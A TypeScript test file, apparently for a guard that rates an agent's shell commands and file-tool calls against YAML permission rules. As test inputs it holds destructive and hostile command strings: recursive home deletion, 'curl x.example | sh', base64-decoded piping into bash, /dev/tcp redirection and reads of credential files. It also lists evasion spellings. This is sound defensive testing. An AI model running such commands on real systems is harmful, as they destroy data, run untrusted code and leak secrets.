import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { packageRoot } from '#config';
import { ordinaryCommands } from '../testing/parse-cases.js';
import type { Verdict } from '../verdict.js';
import { Permissions } from './permissions.js';

const PLACE = { cwd: '/home/dev/p', home: '/home/dev' };
const PUBLISH = `
  - id: publish
    verdict: ask
    why: it cannot be taken back
    when: { program: [npm, pnpm], subcommand: publish }
    examples: [npm publish, 'cd x && sh -c "pnpm publish --tag next"']
    counter-examples: [npm pack, echo npm publish]`;

let config: string;
beforeEach(() => (config = mkdtempSync(join(tmpdir(), 'permissions-'))));
afterEach(() => rmSync(config, { recursive: true }));

/** The packaged rules, and these as the user's. */
async function load(yaml?: string): Promise<Permissions> {
  if (yaml !== undefined) writeFileSync(join(config, 'permissions.yaml'), yaml);
  return Permissions.load({ packaged: join(packageRoot(), 'config'), config, home: PLACE.home });
}

const onCommand = async (permissions: Permissions, cmd: string, tool = 'shell'): Promise<Verdict> =>
  permissions.judge({ tool, args: { cmd } }, PLACE);
const verdicts = async (yaml: string, commands: readonly string[]): Promise<readonly string[]> => {
  const permissions = await load(yaml);
  return Promise.all(commands.map(async (cmd) => (await onCommand(permissions, cmd)).verdict));
};

describe('as packaged', () => {
  it('leaves every verdict to the guard', async () => {
    const permissions = await load();
    expect(await onCommand(permissions, 'npm publish')).toMatchObject({ verdict: 'allow', rule: null, origin: null });
    expect(await onCommand(permissions, 'rm -rf ~')).toMatchObject({ verdict: 'deny', rule: 'recursive-delete', origin: null });
    expect(await onCommand(permissions, 'rm -rf .git')).toMatchObject({ verdict: 'ask', id: 'delete-repository', origin: null });
    expect(await permissions.judge({ tool: 'file_write', args: { file_path: '/etc/passwd' } }, PLACE)).toMatchObject({ verdict: 'allow' });
  });
});

describe('a rule on commands', () => {
  it('is met by a command however it is spelled, and says where it stands', async () => {
    const permissions = await load(`rules:${PUBLISH}`);
    expect(await onCommand(permissions, "ls && x=npm; $x 'pub'lish")).toEqual({
      verdict: 'ask',
      rule: 'publish',
      id: 'publish',
      span: { start: 13, end: 25 },
      why: 'it cannot be taken back',
      origin: `${join(config, 'permissions.yaml')}:2`,
    });
    expect(await onCommand(permissions, 'npm pack')).toMatchObject({ verdict: 'allow' });
  });

  it('may be about effects, paths and one tool', async () => {
    const permissions = await load(`
paths: { plans: ['{CWD}/plans', ~/plans] }
rules:
  - id: keep
    verdict: deny
    why: x
    when:
      - { effect: delete, paths: plans }
      - { effect: write, inside: plans, tool: 'sh*' }
      - { effect: read, inside: '**/.env' }
      - { program: '*', operand-paths: /srv/secrets }
    examples: [rm -rf plans, echo x > plans/a, 'wc -l < a/.env', cat /srv/../srv/secrets/key]
    counter-examples: [rm plans-b, cat plans/a, 'echo x > a; cat .env.example']`);
    expect(await onCommand(permissions, 'rm -rf ~/pl*')).toMatchObject({ verdict: 'deny', rule: 'keep' });
    expect(await onCommand(permissions, 'echo x > plans/a', 'other')).toMatchObject({ verdict: 'allow' });
  });
});

describe('a rule on tools', () => {
  const file = async (yaml: string, args: Readonly<Record<string, unknown>>, tool = 'file_write'): Promise<string> =>
    (await (await load(yaml)).judge({ tool, args }, PLACE)).verdict;
  const rule = (verdict: string, when: string, example: string): string =>
    `rules: [{ id: x, verdict: ${verdict}, why: y, when: ${when}, examples: [${example}] }]`;
  const inside = rule('deny', "{ tool: 'file_*', inside: ~/secrets }", '{ tool: file_read, args: { file_path: ../secrets/a } }');

  it('is about its name, and the paths among its arguments', async () => {
    expect(await file(inside, { file_path: '/home/dev/secrets/a' })).toBe('deny');
    expect(await file(inside, { file_path: 'x/../../secrets' })).toBe('deny');
    expect(await file(inside, { paths: ['a', '../secrets/b'] }, 'file_list')).toBe('deny');
    expect(await file(inside, { file_path: 'secrets', content: '/home/dev/secrets' })).toBe('allow');
    expect(await file(inside, { file_path: '/home/dev/secrets/a' }, 'other')).toBe('allow');
    const outside = rule('ask', "{ tool: '*', outside: '{CWD}' }", '{ tool: a, args: { path: /etc/a } }');
    expect([await file(outside, { file_path: '../a' }), await file(outside, { file_path: 'a' }), await file(outside, {})]).toEqual([
      'ask',
      'allow',
      'allow',
    ]);
  });

  it('takes ~ for the home directory, as the tools do', async () => {
    expect(await file(inside, { file_path: '~/secrets/a' })).toBe('deny');
    const yaml = `default: ask\n${rule('allow', "{ tool: 'file_*', inside: '{CWD}' }", '{ tool: file_read, args: { path: a } }')}`;
    expect([await file(yaml, { file_path: '~/.netrc' }), await file(yaml, { file_path: '~' })]).toEqual(['ask', 'ask']);
    expect([await file(yaml, { file_path: '~/p/a' }), await file(yaml, { file_path: '~agent' })]).toEqual(['allow', 'allow']);
  });

  it('allows a call only when all of its paths are as it says', async () => {
    const yaml = `default: ask\n${rule('allow', "{ tool: copy, inside: '{CWD}' }", '{ tool: copy, args: { path: a } }')}`;
    expect(await file(yaml, { from_path: 'a', to_path: 'b' }, 'copy')).toBe('allow');
    expect(await file(yaml, { from_path: 'a', to_path: '/etc/b' }, 'copy')).toBe('ask');
    expect(await file(yaml, {}, 'copy')).toBe('ask');
  });

  it('stands beside what its command does', async () => {
    const ask = `rules:${PUBLISH}\n  - { id: no-shell, verdict: deny, why: z, when: { tool: bash }, examples: [{ tool: bash }] }`;
    const permissions = await load(ask);
    expect(await onCommand(permissions, 'ls', 'bash')).toMatchObject({ verdict: 'deny', rule: 'no-shell', span: null });
    expect(await onCommand(permissions, 'npm publish', 'shell')).toMatchObject({ verdict: 'ask' });
  });
});

describe('the strictest stands', () => {
  it('over files, rules and the guard', async () => {
    const permissions = await load(`
rules:${PUBLISH}
  - { id: all, verdict: allow, when: { program: '*' }, examples: [npm publish, ls] }
  - { id: no-tag, verdict: deny, why: w, when: { program: npm, options: tag }, examples: [npm publish --tag x] }`);
    expect(await onCommand(permissions, 'npm publish')).toMatchObject({ verdict: 'ask', rule: 'publish' });
    expect(await onCommand(permissions, 'npm publish --tag x')).toMatchObject({ verdict: 'deny', rule: 'no-tag' });
    expect(await onCommand(permissions, 'npm publish; rm -rf ~')).toMatchObject({ verdict: 'deny', rule: 'recursive-delete' });
    expect(await onCommand(permissions, 'rm -rf .git')).toMatchObject({ verdict: 'ask', id: 'delete-repository' });
  });

  it('over rules that are handed in for one call', async () => {
    const permissions = await load('default: ask\nrules: [{ id: ls, verdict: allow, when: { program: ls }, examples: [ls] }]');
    const profile = await permissions.read(
      'default: deny\nrules: [{ id: wc, verdict: allow, when: { program: [ls, wc] }, examples: [wc] }]',
      'p',
    );
    const judge = async (cmd: string): Promise<string> =>
      (await permissions.judge({ tool: 'shell', args: { cmd } }, PLACE, [profile])).verdict;
    expect([await judge('ls'), await judge('ls | wc'), await judge('cat a')]).toEqual(['allow', 'ask', 'deny']);
    expect(await onCommand(permissions, 'cat a')).toMatchObject({
      verdict: 'ask',
      rule: 'default',
      origin: `${join(config, 'permissions.yaml')}:1`,
    });
  });
});

describe('rules of the guard', () => {
  it('are lifted or made stricter by their id; a denial is not', async () => {
    const yaml = 'guard: { delete-repository: allow, kill-general: allow, discard-work: ask, run-download: deny, too-large: allow }\n';
    const commands = [
      'rm -rf .git',
      'rm -rf .',
      'killall node',
      'sudo killall node',
      'git reset --hard',
      'curl x.example | sh',
      `: ${'x'.repeat(1_100_000)}`,
    ];
    expect(await verdicts(yaml, commands)).toEqual(['allow', 'allow', 'allow', 'deny', 'ask', 'deny', 'allow']);
    expect(await verdicts(yaml, ['rm -rf .git *', 'rm -rf .git; rm -rf ~'])).toEqual(['ask', 'deny']);
  });

  it('keep what the strictest of several files makes of them', async () => {
    const permissions = await load('guard: { delete-repository: allow, kill-general: deny }');
    const profile = await permissions.read('guard: { delete-repository: deny, kill-general: allow }', 'p');
    for (const cmd of ['rm -rf .git', 'killall node'])
      expect(await permissions.judge({ tool: 'shell', args: { cmd } }, PLACE, [profile])).toMatchObject({ verdict: 'deny' });
  });

  it.each([
    ['guard: { delete-everything: allow }', ':1: guard: delete-everything: no such rule of the guard'],
    ['\nguard:\n  power-off: allow', ':3: guard: power-off: the guard denies this, and no file can lift that'],
    ['guard: { power-off: ask }', ':1: guard: power-off: the guard denies this'],
  ])('must be there, and not deny: %j', async (yaml, message) => {
    await expect(load(yaml)).rejects.toThrow(`${join(config, 'permissions.yaml')}${message}`);
  });
});

describe('a default other than allow', () => {
  const GIT = `default: ask
rules:
  - { id: look, verdict: allow, when: [{ program: [git status, git diff, ls, find, sort] }], examples: [git status, 'ls | sort'] }
  - { id: test, verdict: allow, when: { program: npm, subcommand: run, operands: 'test*' }, examples: [npm run test:unit], counter-examples: [npm run deploy test] }
  - { id: read, verdict: allow, when: { program: cat, operand-paths: '{CWD}' }, examples: [cat a b], counter-examples: [cat a /etc/passwd] }
  - { id: input, verdict: allow, when: { effect: read, inside: '{CWD}' }, examples: [': < a'] }
  - { id: logs, verdict: allow, when: { effect: write, inside: '{CWD}/logs' }, examples: ['echo x > logs/a'] }
`;

  it('lets run what is allowed part by part', async () => {
    const commands = [
      'git status',
      'git -C x diff | sort',
      'cd a && ls 2>/dev/null; echo done',
      '[ -f a ] && find . -name x',
      'true',
      'git diff >logs/a',
    ];
    expect(await verdicts(GIT, commands)).toEqual(commands.map(() => 'allow'));
  });

  it('asks about all else, however it is wrapped', async () => {
    const commands = ['git push', 'git', 'ls; make', 'ls $(make)', 'sh -c ls', 'find . -exec wc {} +', '. ./env.sh', '$X', 'eval "$X"'];
    expect(await verdicts(GIT, commands)).toEqual(commands.map(() => 'ask'));
    const more = [
      '/bin/f?o a',
      'ls > a',
      'git diff > "logs/$X"',
      'cat "$X"',
      'cd / && cat',
      'npm run deploy test',
      'ls "open',
      `ls ${'x'.repeat(1_100_000)}`,
    ];
    expect(await verdicts(GIT, more)).toEqual(more.map(() => 'ask'));
    expect(await verdicts(GIT, [`${'eval '.repeat(40)}make`])).toEqual(['ask']);
  });

  it('asks about paths that may lie elsewhere', async () => {
    const commands = ['cat ../*', 'cat /*/*/*/key', 'cat /home/dev/?/a', 'cat < ~/.netrc', 'cat < ../*', 'cat a < /dev/tcp/h/80'];
    expect(await verdicts(GIT, commands)).toEqual(commands.map(() => 'ask'));
    const fine = ['cat *', 'cat */a', 'cat < a', 'sort < /dev/null', 'ls <<< a'];
    expect(await verdicts(GIT, fine)).toEqual(fine.map(() => 'allow'));
    const outside = `rules: [{ id: x, verdict: deny, why: y, when: { effect: write, outside: ['{CWD}', '/dev/*'] }, examples: ['echo a > ../b'] }]`;
    expect(await verdicts(outside, ['echo a > ../*', 'echo a > ../?', 'echo a > *', 'echo a > b'])).toEqual([
      'deny',
      'deny',
      'allow',
      'allow',
    ]);
  });

  it('asks about a shell that is given something to read', async () => {
    const permissions = await load(
      "default: ask\nrules: [{ id: sh, verdict: allow, when: { program: [sh, cat] }, examples: ['sh a; cat b'] }]",
    );
    const judge = async (stdin: string): Promise<string> =>
      (await permissions.judge({ tool: 'shell', args: { cmd: 'sh', stdin } }, PLACE)).verdict;
    expect([await judge('cat a'), await judge('make')]).toEqual(['allow', 'ask']);
  });

  it('sees what runs inside of what is allowed', async () => {
    const yaml =
      "default: ask\nrules: [{ id: sh, verdict: allow, when: { program: [sh, bash, env, base64, cat] }, examples: ['sh a; cat b'] }]";
    const allowed = ['sh -c "cat a"', 'echo cat a | sh', 'env A=1 cat a', 'f() { cat a; }; f'];
    expect(await verdicts(yaml, allowed)).toEqual(allowed.map(() => 'allow'));
    const wrapped = [
      'sh -c make',
      'echo make | sh',
      'bash <<E\nmake\nE',
      'env A=1 make',
      'echo bWFrZQo= | base64 -d | bash',
      'f() { make; }; f',
    ];
    const placed = [
      'trap make EXIT',
      'make &',
      '(make)',
      'if cat a; then make; fi',
      'cat `make`',
      'x=make; $x',
      'for x in make; do $x; done',
    ];
    const written = ['cat > s.sh <<E\nmake\nE\nsh s.sh', '. <(echo make)', 'cat a > >(make)', 'cat <(make)'];
    const all = [...wrapped, ...placed, ...written];
    expect(await verdicts(yaml, all)).toEqual(all.map(() => 'ask'));
  });

  it('denies where it is deny, and marks the part', async () => {
    const permissions = await load('default: deny');
    expect(await onCommand(permissions, 'cd x && make all')).toMatchObject({
      verdict: 'deny',
      rule: 'default',
      span: { start: 8, end: 16 },
    });
    expect(await permissions.judge({ tool: 'file_read', args: {} }, PLACE)).toMatchObject({ verdict: 'deny', rule: 'default' });
  });

  it('does not hold for a tool that is allowed as it is', async () => {
    const yaml = 'default: ask\nrules: [{ id: sh, verdict: allow, when: { tool: shell }, examples: [make] }]';
    expect(await verdicts(yaml, ['make', 'rm -rf .git'])).toEqual(['allow', 'ask']);
  });
});

describe('ordinary commands', () => {
  it('are untouched by rules that allow all and by none', async () => {
    const commands = ordinaryCommands(join(packageRoot(), 'libs/guard/spellings/ordinary.jsonl')).filter((_, index) => index % 5 === 0);
    const [none, all] = [await load(), await load("rules: [{ id: a, verdict: allow, when: { program: '*' }, examples: [ls] }]")];
    for (const cmd of commands) expect([cmd, await onCommand(all, cmd)]).toEqual([cmd, await onCommand(none, cmd)]);
  });
});

describe('a file that cannot be used', () => {
  it('is an error, and one that is not there is none', async () => {
    mkdirSync(join(config, 'permissions.yaml'));
    await expect(load()).rejects.toThrow('permissions.yaml: cannot be read: EISDIR');
  });
});
